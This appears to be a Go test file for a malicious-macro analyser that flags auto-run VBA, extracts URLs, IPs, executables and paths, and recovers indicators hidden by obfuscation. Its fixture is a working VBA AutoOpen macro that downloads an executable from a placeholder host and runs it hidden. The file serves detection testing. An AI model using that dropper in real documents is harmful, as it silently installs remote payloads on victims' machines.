@@ -1,0 +1,178 @@
+package analysis
+
+import (
+	"strings"
+	"testing"
+
+	"repro/internal/obfuscate"
+)
+
+const downloader = `Sub AutoOpen()
+    Dim u As String
+    Dim d As String
+    u = "http://files-mirror.example/kit/update.exe"
+    d = "C:\Users\Public\update.exe"
+    r = URLDownloadToFile(0, u, d, 0, 0)
+    If r = 0 Then
+        Shell d, vbHide
+    End If
+End Sub
+`
+
+func kindsOf(rep *Report, k Kind) []string {
+	var out []string
+	for _, f := range rep.Findings {
+		if f.Kind == k {
+			out = append(out, f.Value)
+		}
+	}
+	return out
+}
+
+func TestAnalyzePlainDownloader(t *testing.T) {
+	rep := Analyze(downloader)
+	if !rep.HasAutoExec() {
+		t.Error("AutoOpen not detected")
+	}
+	if !rep.Suspicious() {
+		t.Error("no suspicious keywords")
+	}
+	urls := kindsOf(rep, KindIOCURL)
+	if len(urls) != 1 || urls[0] != "http://files-mirror.example/kit/update.exe" {
+		t.Errorf("urls = %q", urls)
+	}
+	exes := kindsOf(rep, KindIOCExecutable)
+	if len(exes) == 0 {
+		t.Error("no executables found")
+	}
+	paths := kindsOf(rep, KindIOCPath)
+	found := false
+	for _, p := range paths {
+		if strings.HasPrefix(p, `C:\Users\Public`) {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("paths = %q", paths)
+	}
+	// Nothing needed deobfuscation.
+	for _, f := range rep.Findings {
+		if f.FromDeobfuscation {
+			t.Errorf("finding %v marked FromDeobfuscation on plain source", f)
+		}
+	}
+}
+
+func TestAnalyzeObfuscatedRevealsHiddenIOCs(t *testing.T) {
+	obf := obfuscate.Apply(downloader, obfuscate.Options{
+		Seed: 3, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1,
+		Split: true, Indent: obfuscate.IndentKeep,
+	})
+	if strings.Contains(obf, "files-mirror.example/kit") {
+		t.Fatal("obfuscation left the URL visible")
+	}
+	rep := Analyze(obf)
+	var revealedURL bool
+	for _, f := range rep.Findings {
+		if f.Kind == KindIOCURL && strings.Contains(f.Value, "files-mirror.example") {
+			if !f.FromDeobfuscation {
+				t.Error("hidden URL not marked FromDeobfuscation")
+			}
+			revealedURL = true
+		}
+	}
+	if !revealedURL {
+		t.Errorf("URL not recovered; findings = %+v", rep.Findings)
+	}
+	if rep.Folds == 0 {
+		t.Error("no folds recorded")
+	}
+}
+
+func TestAnalyzeBenignQuiet(t *testing.T) {
+	benign := `Sub UpdateReport()
+    ' accumulate the totals
+    Dim i As Long
+    For i = 1 To 10
+        total = total + Cells(i, 1).Value
+    Next i
+End Sub
+`
+	rep := Analyze(benign)
+	if rep.HasAutoExec() {
+		t.Error("benign macro flagged autoexec")
+	}
+	if len(rep.IOCs()) != 0 {
+		t.Errorf("benign IOCs = %+v", rep.IOCs())
+	}
+}
+
+func TestFindURLs(t *testing.T) {
+	urls := findURLs(`a = "https://x.test/a?b=1" : b = "ftp://host/f" : c = "http://"`)
+	if len(urls) != 2 {
+		t.Fatalf("urls = %q", urls)
+	}
+	if urls[0] != "ftp://host/f" && urls[1] != "ftp://host/f" && len(urls) == 2 {
+		// order is by scheme list; just check membership
+		joined := strings.Join(urls, "|")
+		if !strings.Contains(joined, "https://x.test/a?b=1") || !strings.Contains(joined, "ftp://host/f") {
+			t.Errorf("urls = %q", urls)
+		}
+	}
+}
+
+func TestFindIPs(t *testing.T) {
+	ips := findIPs("connect to 10.0.0.1 then 256.1.1.1 and 1.2.3.4.5 and 192.168.10.20")
+	want := map[string]bool{"10.0.0.1": true, "192.168.10.20": true}
+	if len(ips) != len(want) {
+		t.Fatalf("ips = %q", ips)
+	}
+	for _, ip := range ips {
+		if !want[ip] {
+			t.Errorf("unexpected ip %q", ip)
+		}
+	}
+}
+
+func TestFindExecutables(t *testing.T) {
+	exes := findExecutables(`run setup.exe or payload.scr or note.txt or script.ps1x`)
+	joined := strings.Join(exes, "|")
+	if !strings.Contains(joined, "setup.exe") || !strings.Contains(joined, "payload.scr") {
+		t.Errorf("exes = %q", exes)
+	}
+	if strings.Contains(joined, "note.txt") || strings.Contains(joined, "ps1x") {
+		t.Errorf("false positives: %q", exes)
+	}
+}
+
+func TestFindPaths(t *testing.T) {
+	paths := findPaths(`copy C:\Program Files\tool\a.exe to \\share\drop\x.bin done`)
+	joined := strings.Join(paths, "|")
+	if !strings.Contains(joined, `C:\Program Files\tool\a.exe`) {
+		t.Errorf("drive path missing: %q", paths)
+	}
+	if !strings.Contains(joined, `\\share\drop\x.bin`) {
+		t.Errorf("UNC path missing: %q", paths)
+	}
+}
+
+func TestKindString(t *testing.T) {
+	kinds := map[Kind]string{
+		KindAutoExec: "autoexec", KindSuspicious: "suspicious",
+		KindIOCURL: "ioc-url", KindIOCIP: "ioc-ip",
+		KindIOCExecutable: "ioc-executable", KindIOCPath: "ioc-path",
+		Kind(99): "unknown",
+	}
+	for k, want := range kinds {
+		if k.String() != want {
+			t.Errorf("%d.String() = %q", int(k), k.String())
+		}
+	}
+}
+
+func TestAnalyzeEmptySafe(t *testing.T) {
+	rep := Analyze("")
+	if len(rep.Findings) != 0 {
+		t.Errorf("findings = %+v", rep.Findings)
+	}
+}
